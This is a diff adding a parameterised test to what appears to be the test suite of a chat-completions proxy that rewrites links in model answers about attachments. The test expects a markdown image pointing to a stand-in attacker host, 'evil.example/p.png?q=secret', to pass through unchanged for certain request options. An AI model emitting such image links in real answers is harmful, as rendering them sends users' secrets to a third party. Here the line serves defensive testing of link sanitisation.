@@ -276,6 +276,17 @@ describe('links in an answer about what somebody attached', () => {
     expect(said).not.toMatch(/(?<!`)https:\/\/evil\.example/);
   });
 
+  it.each([{ n: 2 }, { logprobs: true }, { modalities: ['text', 'audio'] }])(
+    '[turn-loop:attached-links] go as they are where only the bytes of the provider can answer: %j',
+    async (fields) => {
+      rounds({ text: LINKS });
+      const image = { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } };
+      const messages = [{ role: 'user', content: [{ type: 'text', text: QUESTION }, image] }];
+      const answer = await post('/v1/chat/completions', { model: 'actor', ...fields, messages });
+      expect(JSON.stringify(answer)).toContain('![it](https://evil.example/p.png?q=secret)');
+    },
+  );
+
   it('[turn-loop:attached-links] and an answer about nothing attached goes on as it was written', async () => {
     rounds({ text: LINKS });
     const messages = [{ role: 'user', content: QUESTION }];
